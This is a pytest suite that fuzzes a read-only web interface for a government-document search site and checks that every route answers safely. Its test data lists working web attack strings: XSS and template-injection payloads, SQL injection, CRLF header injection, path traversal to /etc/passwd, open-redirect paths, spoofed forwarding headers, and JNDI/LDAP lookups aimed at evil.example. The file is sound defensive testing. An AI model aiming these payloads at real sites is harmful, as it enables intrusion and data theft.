"""Whatever is sent to whatever address: an answer or a refusal, safe and soon, never a 500."""

from __future__ import annotations

import json as jsons
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote_to_bytes
from xml.etree import ElementTree

import pytest
from werkzeug.test import TestResponse

from tests.web import app
from webui.middleware.headers import SECURITY

FINE = {200, 301, 302, 304, 400, 404, 405, 410, 413, 414}
SECONDS = 2.0  # the most that one request may take

ROUTES = [
    "/",
    "/search",
    "/article/a01",
    "/person/pham-minh-chinh",
    "/ministry/bo-cong-thuong",
    "/doc/753-qd-ttg",
    "/coverage",
    "/quality",
    "/help",
    "/suggest",
    "/feed.atom",
    "/export.csv",
    "/export.xlsx",
    "/export.jsonl",
    "/export.ris",
    "/export.atom",
    "/opensearch.xml",
    "/sitemap.xml",
    "/robots.txt",
    "/openapi.json",
    "/healthz",
    "/readyz",
    "/static/style.css",
    "/metrics",
    "/nowhere",
]
VALUES = {
    "nothing": "",
    "NUL": "%00",
    "invalid UTF-8": "%FF%FE",
    "overlong slash": "%C0%AF",
    "lone surrogate": "%ED%A0%80",
    "half an escape": "%",
    "line feed": "%0d%0aSet-Cookie:%20a=b",
    "script": "%3Cscript%3Ealert(1)%3C/script%3E",
    "quote": "%22onmouseover=alert(1)%20x=%22",
    "template": "%7B%7B7*7%7D%7D%7B%25%20for%20x%20%25%7D",
    "SQL": "'%20OR%201=1;--",
    "right to left": "%E2%80%AE%E2%80%8F",
    "combining": "e" + "%CC%81" * 500,
    "emoji": "%F0%9F%87%BB%F0%9F%87%B3",
    "beyond Unicode": "%F4%90%80%80",
    "traversal": "../../../../etc/passwd",
    "star": "*",
    "questions": "%3F%3F*",
    "parentheses": "(" * 400,
    "quotes": "%22" * 400,
    "operators": "AND%20OR%20NOT%20-%20-%20OR",
    "minus": "-",
    "many OR": "%20OR%20".join("abcdefghijklmnopqrstuvwxyz" * 3),
    "near": "%22a%20b%22~99999999999",
    "number": "9" * 300,
    "negative": "-1",
    "float": "1e309",
    "not a number": "NaN",
    "long": "a" * 10_000,
    "field": "person:%20ministry:%20date:%20title:",
    "field of a field": "title:" * 80 + "x",
    "date": "date:0000-00-00",
    "year 0": "0000",
    "year 9999": "9999-12-31",
    "range": "2024-01-01..",
    "Turkish I": "%C4%B0%C4%B1",
    "ligature": "%EF%AC%83",
    "escape": "%1B%5B31m",
    "no character": "%EF%BF%BE",
    "another page number": "%D9%A1",
    "page beyond all": "1" + "0" * 30,
    "no day": "9999-99-99",
    "day far back": "last-99999999999d",
    "undated beyond": "~9999-99",
    "three bytes for a slash": "%E0%80%AF",
    "line feed in Unicode": "%E5%98%8D%E5%98%8ASet-Cookie:1",
    "script in wide letters": "%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E",
    "script twice escaped": "%253Cscript%253Ealert(1)%253C/script%253E",
    "end of a data block": "%3C/script%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "end of a comment": "--%3E%3C!--",
    "line separators": "%E2%80%A8%E2%80%A9",
    "wide letters that fold": "%EF%B7%BA" * 120,
    "a file of the system": "file:///etc/passwd",
    "another site": "//evil.example",
    "lookup": "$%7Bjndi:ldap://evil.example/a%7D",
}
WORST = ("NUL", "invalid UTF-8", "lone surrogate", "script", "quote", "many OR", "near", "long", "number", "field")
PARAMETERS = (
    "q",
    "person",
    "ministry",
    "x_person",
    "x_ministry",
    "person_op",
    "ministry_op",
    "date",
    "from",
    "to",
    "sort",
    "page",
    "more",
    "az",
    "find_person",
    "find_ministry",
    "expand",
    "exact",
    "group",
    "lineage",
    "lang",
    "format",
    "copies",
    "callback",
    "next",
    "unknown",
)
PATHS = [
    "//evil.example/",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/static/../../wsgi.py",
    "/static/%2e%2e/%2e%2e/wsgi.py",
    "/static/",
    "/static//etc/passwd",
    "/article/",
    "/article/%00",
    "/article/../search",
    "/article/" + "a" * 2000,
    "/article/%FF",
    "/article/a01%0d%0aX: y",
    "/person/%3Cscript%3E",
    "/person/_none",
    "/ministry/%2F",
    "/ministry/" + "%E1%BB%87" * 300,
    "/doc/%00",
    "/doc/" + "1-" * 900,
    "/doc/..%2f..%2f",
    "/export.",
    "/export.%00",
    "/export.csv/",
    "/search/",
    "/SEARCH",
    "/search;a=b",
    "/.git/config",
    "/wsgi.py",
    "/" + "a" * 9000,
    "/" + "/" * 500,
    "/\\evil.example",
    "/%09/evil.example",
    "/sitemap-99999999999.xml",
    "/sitemap-x.xml",
    "/doc//evil.example",
    "/doc/%5C%5Cevil.example/",
    "/doc/http://evil.example",
    "/%2f%2fevil.example",
    "/%5cevil.example",
    "/.//evil.example",
    "/@evil.example/%2f..",
    "/article/%2e%2e%2f%2e%2e%2fwsgi.py",
    "/article/%C0%AE%C0%AE",
    "/article/%3Cscript%3Ealert(1)%3C/script%3E",
    "/person/__proto__",
    "/static/..%2f..%2fwsgi.py",
    "/static/..%5c..%5cwsgi.py",
    "/static/style.css%00.js",
    "/static/fonts/",
    "/search/../article/a01",
    "/search%3fq=a",
    "/" + "%00" * 100,
]
HEADERS = {
    "accept nothing known": {"Accept": "image/x-nothing;q=broken,,,;"},
    "endless accept": {"Accept": "a/b," * 4000},
    "strange language": {"Accept-Language": "xx-" + "y" * 500 + ";q=2, *;q=-1"},
    "range": {"Range": "bytes=5-1,0-,-0"},
    "many ranges": {"Range": "bytes=" + ",".join(f"{n}-" for n in range(900))},
    "cookie": {"Cookie": "session=" + "x" * 3000},
    "broken etag": {"If-None-Match": 'W/"unbalanced, *, "'},
    "strange time": {"If-Modified-Since": "Thu, 99 Foo 99999 99:99:99"},
    "forwarded": {
        "X-Forwarded-Host": "evil.example",
        "X-Forwarded-Proto": "javascript",
        "X-Forwarded-Prefix": "//evil.example",
    },
    "rewrite": {"X-Original-URL": "/admin", "X-Rewrite-URL": "/admin", "X-HTTP-Method-Override": "DELETE"},
    "origin": {"Origin": "null", "Referer": "javascript:alert(1)"},
    "forwarded by all names": {
        "Forwarded": 'host=evil.example;proto=javascript;for="<script>"',
        "X-Host": "evil.example",
        "X-Forwarded-Server": "evil.example",
        "X-Forwarded-Scheme": "javascript",
        "X-Script-Name": "//evil.example",
        "X-Forwarded-Port": "evil",
    },
    "conditions of a change": {"If-Match": '"x"', "If-Unmodified-Since": "Thu, 01 Jan 1970 00:00:00 GMT"},
    "a change of protocol": {"Upgrade": "h2c", "HTTP2-Settings": "AAA", "Connection": "Upgrade, HTTP2-Settings"},
    "a name of its own": {"X-Request-Id": "<script>alert(1)</script>", "traceparent": "x"},
    "no encoding at all": {"Accept-Encoding": "identity;q=0, *;q=0"},
    "agent": {"User-Agent": "\u00ff${jndi:ldap://evil.example}"},
}


def ask(path: str, query: str = "", method: str = "GET", **headers: str) -> TestResponse:
    began = time.monotonic()
    answer = app().test_client().open(path, query_string=query, method=method, headers=headers, buffered=True)
    assert time.monotonic() - began < 10 * SECONDS  # generous: the machine may be busy
    return answer


def assert_is_safe(answer: TestResponse) -> None:
    assert answer.status_code in FINE, answer.data[:300]
    assert {name: answer.headers.get(name) for name in SECURITY} == SECURITY
    assert "Set-Cookie" not in answer.headers
    assert answer.headers["X-Request-Id"]
    assert b"Traceback" not in answer.data
    assert "evil.example" not in answer.headers.get("Location", "")
    if answer.mimetype == "text/html":
        assert "<script>alert" not in answer.text
        assert '"onmouseover=' not in answer.text
        assert 'href="javascript:' not in answer.text


@pytest.mark.parametrize("value", VALUES.values(), ids=VALUES)
def test_a_value_of_any_parameter_is_answered_or_refused(value: str):
    for parameter in PARAMETERS:
        assert_is_safe(ask("/search", f"{parameter}={value}"))


@pytest.mark.parametrize("route", ROUTES)
def test_every_route_answers_or_refuses_any_question(route: str):
    for name in WORST:
        assert_is_safe(ask(route, f"q={VALUES[name]}&page={VALUES[name][:60]}"))


@pytest.mark.parametrize("path", PATHS, ids=lambda path: path[:30])
def test_a_strange_address_is_not_found_or_refused(path: str):
    assert_is_safe(ask(path))


@pytest.mark.parametrize("headers", HEADERS.values(), ids=HEADERS)
def test_strange_headers_change_nothing_but_the_form(headers: dict[str, str]):
    for route in ROUTES:
        assert_is_safe(ask(route, **headers))


@pytest.mark.parametrize(
    "query", ["&" * 150, "q=a&" * 150, "person=x&" * 150, "=&=&=", "q[]=1&q[a]=2", "q=a;q=b", "?q=a"]
)
def test_odd_rows_of_parameters_are_answered_or_refused(query: str):
    for route in ("/search", "/suggest", "/feed.atom", "/export.csv"):
        assert_is_safe(ask(route, query))


def requests() -> Iterator[tuple[int, str, str, dict[str, str]]]:
    """Status, method, address and headers of every case."""
    for line in (Path(__file__).parent / "cases/hostile/requests.tsv").read_text("utf-8").splitlines()[1:]:
        status, method, url, *headers = line.split("\t")
        yield int(status), method, url, dict(header.split(": ", 1) for header in headers)


@pytest.mark.parametrize(("status", "method", "url", "headers"), list(requests()))
def test_a_hostile_request_is_answered_as_told(status: int, method: str, url: str, headers: dict[str, str]):
    path, _, query = url.partition("?")
    sent = {"PATH_INFO": unquote_to_bytes(path).decode("latin-1"), "QUERY_STRING": query}
    for name, value in headers.items():
        key = name.upper().replace("-", "_")
        sent[key if key.startswith("CONTENT_") else f"HTTP_{key}"] = value
    answer = app().test_client().open(method=method, environ_overrides=sent, buffered=True)
    assert answer.status_code == status
    assert_is_safe(answer)
    assert "evil.example" not in answer.text or "evil.example" in url


@pytest.mark.parametrize("route", ROUTES)
@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "MOVE", "G\u00cbT"])
def test_no_route_takes_a_method_that_writes(route: str, method: str):
    answer = ask(route, method=method)
    assert answer.status_code == 405
    assert answer.headers["Allow"] == "GET, HEAD, OPTIONS"
    assert_is_safe(answer)


READ = (
    "/search",
    "/article/a01",
    "/person/pham-minh-chinh",
    "/doc/753-qd-ttg",
    "/feed.atom",
    "/export.atom",
    "/suggest",
)


@pytest.mark.parametrize("parameter", PARAMETERS)
@pytest.mark.parametrize("value", ["script", "quote", "line feed", "NUL", "beyond Unicode"])
def test_nothing_that_is_sent_comes_back_unescaped(parameter: str, value: str):
    for route in READ:
        answer = ask(route, f"{parameter}={VALUES[value]}")
        assert_is_safe(answer)
        assert "a=b" not in [header for header, _ in answer.headers]
        if answer.mimetype.endswith("xml"):
            ElementTree.fromstring(answer.data)
        elif answer.mimetype.endswith("json"):
            jsons.loads(answer.data)
        else:
            assert answer.mimetype == "text/html"


@pytest.mark.parametrize("value", VALUES.values(), ids=VALUES)
def test_a_feed_is_well_formed_whatever_was_searched(value: str):
    for route in ("/feed.atom", "/export.atom", "/opensearch.xml"):
        answer = ask(route, f"q={value}")
        assert answer.status_code == 400 or ElementTree.fromstring(answer.data).tag


@pytest.mark.parametrize("route", ROUTES)
def test_the_body_of_a_request_is_refused_on_every_route(route: str):
    for sent in ({"CONTENT_LENGTH": "5"}, {"HTTP_TRANSFER_ENCODING": "chunked"}):
        answer = app().test_client().get(route, environ_overrides=sent, buffered=True)
        assert answer.status_code == 413
        assert_is_safe(answer)


@pytest.mark.parametrize("route", ROUTES)
@pytest.mark.parametrize("method", ["HEAD", "OPTIONS"])
def test_reading_methods_without_a_body_are_safe_too(route: str, method: str):
    answer = ask(route, method=method)
    assert_is_safe(answer)
    assert answer.data == b"" or (method == "OPTIONS" and answer.status_code == 404)


@pytest.mark.parametrize(
    "query",
    [
        "&".join(f"person=a{number}" for number in range(20)),
        "person_op=all&" + "&".join(f"person=a{number}" for number in range(20)),
        "&".join(f"x_ministry=a{number}" for number in range(20)),
        "more=person&more=ministry&" + "&".join(f"x_person={'a' * 80}{number}" for number in range(20)),
        "&".join(f"date={year}" for year in range(1960, 2020)),
        "find_person=" + "a" * 2_000,
        "more=person&more=ministry&az=person&az=ministry&copies=" + "a" * 1_900,
    ],
    ids=lambda query: query[:24],
)
def test_a_page_of_as_many_filters_as_are_read_is_of_bounded_size(query: str):
    answer = ask("/search", query)
    assert_is_safe(answer)
    assert answer.status_code == 200
    assert len(answer.data) < 300_000
